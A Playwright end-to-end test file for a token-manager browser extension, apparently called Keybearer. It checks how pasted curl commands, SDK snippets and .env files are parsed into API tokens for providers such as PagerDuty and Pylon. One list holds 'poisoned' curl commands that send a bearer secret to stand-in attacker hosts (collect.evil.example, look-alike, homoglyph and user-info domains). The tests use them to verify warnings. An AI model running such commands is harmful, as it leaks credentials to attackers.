import type { Page } from '@playwright/test';
import { SAMPLE } from '../servers/sample-tokens';
import { chooseApi } from '../support/choose-api';
import { openRealPopup } from '../support/real-popup';
import type { Keybearer } from './support/keybearer';
import { pasteInto } from './support/paste-into';
import { expect, test } from './support/test';
import { visit } from './support/visit';

test.use({ build: 'chrome-mv3-e2e' });

/** A block of each provider's documentation with a token filled in, and where it must arrive in which header. */
const BLOCKS = [
  {
    provider: 'Airship',
    why: 'The command goes to api.airship.co.uk.',
    paste: `curl --location 'https://api.airship.co.uk/v1/contacts' \\\n  --header 'Authorization: Bearer ${SAMPLE.airship}'`,
    address: 'https://api.airship.co.uk/v1/contacts',
    line: `authorization: Bearer ${SAMPLE.airship}`,
  },
  {
    provider: 'SplxAI',
    why: 'SplxAI uses the header X-Api-Key.',
    paste: `curl -L \\\n  --request POST \\\n  --url 'https://us.api.probe.splx.ai/api/v2/test-run/trigger' \\\n  --header 'X-Api-Key: ${SAMPLE.splxaiUs}' \\  # your personal access token\n  --header 'Content-Type: application/json-patch+json'`,
    address: 'https://us.api.probe.splx.ai/api/workspaces',
    line: `x-api-key: ${SAMPLE.splxaiUs}`,
  },
  {
    provider: 'PagerDuty',
    why: 'names it',
    paste: `import {api} from '@pagerduty/pdjs';\n\nconst pd = api({token: '${SAMPLE.pagerdutyUserUs}'});\n\npd.get('/incidents')`,
    address: 'https://api.pagerduty.com/incidents',
    line: `authorization: Token token=${SAMPLE.pagerdutyUserUs}`,
  },
  {
    provider: 'Polyteia',
    why: 'The command goes to app.polyteia.com.',
    paste: `curl -X GET "https://app.polyteia.com/api/organizations" \\\n  -header "Authorization: Bearer ${SAMPLE.polyteia}"`,
    address: null,
    line: null,
  },
  {
    provider: 'Pylon',
    why: 'The command goes to api.usepylon.com.',
    paste: `curl --request GET \\\n  --url https://api.usepylon.com/me \\\n  --header 'Authorization: Bearer ${SAMPLE.pylonUs}'`,
    address: 'https://api.usepylon.com/issues',
    line: `authorization: Bearer ${SAMPLE.pylonUs}`,
  },
] as const;

test('a block of every provider is pasted into the real popup, tested, and sent as its own token', async ({
  keybearer,
  browserSession,
  replica,
  tab,
}) => {
  test.slow();
  for (const { provider, paste, address, line } of BLOCKS) {
    await test.step(provider, async () => {
      // A tab of another API would speak against the paste.
      await tab.goto('https://other.example/');
      await tab.bringToFront();
      const popup = await openRealPopup(browserSession);
      await popup.waitForText('Keybearer');
      await pasteInto(popup.page, paste);
      await popup.waitForText(provider);
      expect(await popup.text()).toContain('Read from');
      await popup.click('Save and test', 'button');
      await popup.waitForText('Works', 20_000);
      await popup.close();
      await keybearer.ask('result.dismiss');
      await keybearer.ask('passphrase.later');
      if (address !== null) expect(await visit(tab, replica, address)).toEqual([line]);
    });
  }
  expect((await keybearer.snapshot())?.tokens).toHaveLength(BLOCKS.length);
});

test('several tokens of a .env file are ticked, tested behind one click, and each goes to its own API', async ({
  keybearer,
  replica,
  tab,
}) => {
  const { page } = keybearer;
  const file = [
    '# local settings',
    'PORT=3000',
    'LOG_FORMAT=json',
    `PAGERDUTY_TOKEN=${SAMPLE.pagerdutyUserUs}`,
    `PYLON_API_KEY="${SAMPLE.pylonUs}"`,
    `PAGERDUTY_TOKEN_OLD=${SAMPLE.pagerdutyUserUs}`,
    'ACME_SECRET_KEY=acme_8fK2mQ7xT4vL9pR1nB6cW3s',
  ].join('\n');
  await pasteInto(page, file);
  await expect(page.getByRole('heading', { level: 1 })).toContainText('tokens in one paste');
  const tick = (name: string) => page.getByRole('checkbox', { name: new RegExp(name) });
  await expect(tick('PAGERDUTY_TOKEN ')).toBeChecked();
  await expect(tick('PYLON_API_KEY')).toBeChecked();
  await expect(tick('PAGERDUTY_TOKEN_OLD')).not.toBeChecked();
  await expect(page.getByText('The same as in line')).toBeVisible();
  await expect(tick('ACME_SECRET_KEY')).toBeDisabled();
  expect(await page.locator('body').innerText()).not.toContain(SAMPLE.pylonUs);

  // A popup that is closed and opened again goes on where it was.
  // The background keeps what is ticked, so the box follows a moment after the click.
  await tick('PYLON_API_KEY').click();
  await expect(tick('PYLON_API_KEY')).not.toBeChecked();
  await expect(page.getByRole('button', { name: 'Save and test', exact: true })).toBeVisible();
  await page.reload();
  await expect(page.getByText('Continued')).toBeVisible();
  await expect(tick('PYLON_API_KEY')).not.toBeChecked();
  await tick('PYLON_API_KEY').click();
  await expect(tick('PYLON_API_KEY')).toBeChecked();

  await page.getByRole('button', { name: 'Save and test 2' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('2 tokens saved', { timeout: 20_000 });
  await keybearer.ask('result.dismiss');
  expect(await visit(tab, replica, 'https://api.pagerduty.com/incidents')).toEqual([
    `authorization: Token token=${SAMPLE.pagerdutyUserUs}`,
  ]);
  expect(await visit(tab, replica, 'https://api.usepylon.com/issues')).toEqual([
    `authorization: Bearer ${SAMPLE.pylonUs}`,
  ]);
});

test('of several, one that asks for more than the list can stays, and can be added by itself', async ({
  keybearer: { page },
}) => {
  await pasteInto(
    page,
    [
      `curl http://localhost:3000/v1/me ${header}`,
      `curl https://api.usepylon.com/me -H 'Authorization: Bearer ${SAMPLE.pylonUs}'`,
    ].join('\n'),
  );
  await expect(page.getByRole('heading', { name: '2 tokens in one paste' })).toBeVisible();
  await expect(
    page.getByText('One needs more details. It stays here when the others are saved.'),
  ).toBeVisible();
  await page.getByRole('button', { name: 'Add one by one' }).click();
  await expect(page.getByRole('heading', { name: 'Add localhost:3000' })).toBeVisible();
  await expect(page.getByText('One more token from this paste comes next.')).toBeVisible();
});

const SECRET = 'acme_8fK2mQ7xT4vL9pR1nB6cW3s';
const header = `-H 'Authorization: Bearer ${SECRET}'`;

/** Commands that somebody else wrote. None of them may lead to a company that they only seem to name. */
const POISONED = [
  ['two addresses', `curl ${header} https://api.pagerduty.com/users https://collect.evil.example/`],
  ['the known one as proxy', `curl -x https://api.pagerduty.com ${header} https://collect.evil.example/`],
  ['a look-alike', `curl ${header} https://api-pagerduty.com/users`],
  ['a known host in front', `curl ${header} https://api.pagerduty.com.evil.example/users`],
  ['a Cyrillic letter', `curl ${header} https://api.p\u0430gerduty.com/users`],
  ['an invisible character', `curl ${header} https://api.pager\u200bduty.com/users`],
  ['a user name', `curl ${header} https://api.pagerduty.com@evil.example/users`],
] as const;

test('a command that names a known API as its referer describes the API that it goes to', async ({
  keybearer,
}) => {
  const { page } = keybearer;
  await pasteInto(page, `curl -e https://api.pagerduty.com ${header} https://collect.evil.example/`);
  await expect(page.getByRole('heading', { name: 'Add collect.evil.example' })).toBeVisible();
  expect(await page.locator('main, body').first().innerText()).not.toMatch(/PagerDuty|pagerduty/);
  expect(
    ((await keybearer.snapshot())?.draft as { providerId?: string | null } | null)?.providerId,
  ).toBeNull();
});

test('a poisoned command suggests nobody, and says what is odd about it', async ({ keybearer }) => {
  const { page } = keybearer;
  const chosen = () =>
    keybearer
      .snapshot()
      .then((snapshot) => (snapshot?.draft as { providerId?: string | null } | null)?.providerId ?? null);
  for (const [what, command] of POISONED) {
    await test.step(what, async () => {
      await keybearer.ask('draft.discard');
      await page.reload();
      await page.getByLabel('Token', { exact: true }).waitFor();
      await pasteInto(page, command);
      // Nobody is chosen, and an API of the paste's own is a question first.
      const open = /Choose the API that this token is for|Answer the questions? above first/;
      await expect(page.getByText(open)).toBeVisible();
      expect(await chosen(), what).toBeNull();
      await expect(page.getByRole('button', { name: /^(?:Allow|Save) and test/ })).toHaveCount(0);
      expect(await page.locator('body').innerText()).not.toContain(SECRET);
    });
  }
});

test('the host of a command stands alone, and against the chosen API no button stands out', async ({
  keybearer,
}) => {
  const { page } = keybearer;
  await pasteInto(page, `curl ${header} https://api.pagerduty.com.evil.example/users`);
  await chooseApi(page, 'PagerDuty');
  const notice = page.getByRole('status').filter({ hasText: 'evil.example' });
  await expect(notice.locator('strong')).toHaveText('evil.example');
  await expect(notice).toContainText('that is not PagerDuty');
  const allow = page.getByRole('button', { name: 'Save and test' });
  await expect(allow).not.toBeFocused();
  await expect(page.locator('.button-filled')).toHaveCount(0);
});

test('two values for one header are a question, and neither is chosen beforehand', async ({ keybearer }) => {
  const { page } = keybearer;
  const second = `-H 'Authorization: Token token=${SAMPLE.pagerdutyOtherUserUs}'`;
  const first = `-H 'Authorization: Token token=${SAMPLE.pagerdutyUserUs}'`;
  await pasteInto(page, `curl ${first} ${second} https://api.pagerduty.com/users`);
  await expect(page.getByRole('heading', { name: 'Which one is the token?' })).toBeVisible();
  await expect(page.getByRole('radio', { checked: true })).toHaveCount(0);
  await expect(page.getByText('Choose one first.')).toBeVisible();
  await page.getByRole('radio').first().check();
  await page.getByRole('button', { name: 'Take this one' }).click();
  await expect(page.getByText('The command goes to api.pagerduty.com.', { exact: true })).toBeVisible();
});

test('a paste without a token says what was there, keeps the focus in the field, and stores none of it', async ({
  keybearer,
}) => {
  const { page } = keybearer;
  const field = page.getByLabel('Token', { exact: true });
  for (const [paste, heading] of [
    ['Authorization: Token token=y_NbAkKc66ryYTWUXYEu', 'This is PagerDuty’s sample'],
    ['op://vault/item/credential', 'This points to a token'],
    ['https://api.pagerduty.com/users', 'This is an address'],
    ['pat_7Hq...yW3s', 'The middle is missing'],
  ] as const) {
    await pasteInto(page, paste);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(heading);
    await expect(field).toBeFocused();
    expect(await keybearer.snapshot()).toMatchObject({ draft: null, tokens: [] });
  }
});

test('a half-typed name survives the end of the page, and a value of a header does not', async ({
  keybearer,
}) => {
  const { page } = keybearer;
  await keybearer.add({ providerId: 'pagerduty', secret: SAMPLE.pagerdutyUserUs, region: 'US' });
  await keybearer.ask('result.dismiss');
  await keybearer.ask('passphrase.later');
  await openEdit(page);
  await page.getByLabel('Header', { exact: true }).fill('X-Half');
  await page.getByLabel('Value', { exact: true }).fill('half-a-secret');
  // The last one, because a name is saved when its field is left.
  await page.getByLabel('Name', { exact: true }).fill('On-call key of the');
  await expect.poll(async () => await keybearer.page.evaluate(keptKeys)).toContain('typed');
  await expect
    .poll(async () => (await keybearer.send('typed.get', { id: await onlyId(keybearer) })).value)
    .toEqual({ label: 'On-call key of the', 'header-name': 'X-Half' });
  await page.reload();
  await expect(page.getByText('Continued')).toBeVisible();
  await expect(page.getByLabel('Name', { exact: true })).toHaveValue('On-call key of the');
  await expect(page.getByLabel('Value', { exact: true })).toHaveValue('');
  await page.getByRole('button', { name: 'Start again' }).click();
  await expect(page.getByLabel('Name', { exact: true })).not.toHaveValue('On-call key of the');
  await expect.poll(async () => await keybearer.page.evaluate(keptKeys)).not.toContain('typed');
});

async function openEdit(page: Page): Promise<void> {
  await page.reload();
  await page.getByText('PagerDuty').first().waitFor();
  const row = page.getByRole('button', { name: /PagerDuty/ }).first();
  if ((await page.getByRole('button', { name: /^More for / }).count()) === 0) await row.click();
  await page
    .getByRole('button', { name: /^More for / })
    .first()
    .click();
  await page.getByRole('menuitem', { name: /Edit/ }).click();
  await page.getByLabel('Name', { exact: true }).waitFor();
}

const keptKeys = async () => Object.keys(await globalThis.chrome.storage.session.get(null));

async function onlyId(keybearer: Keybearer): Promise<string> {
  const [token] = (await keybearer.snapshot())?.tokens ?? [];
  return String(token?.id);
}
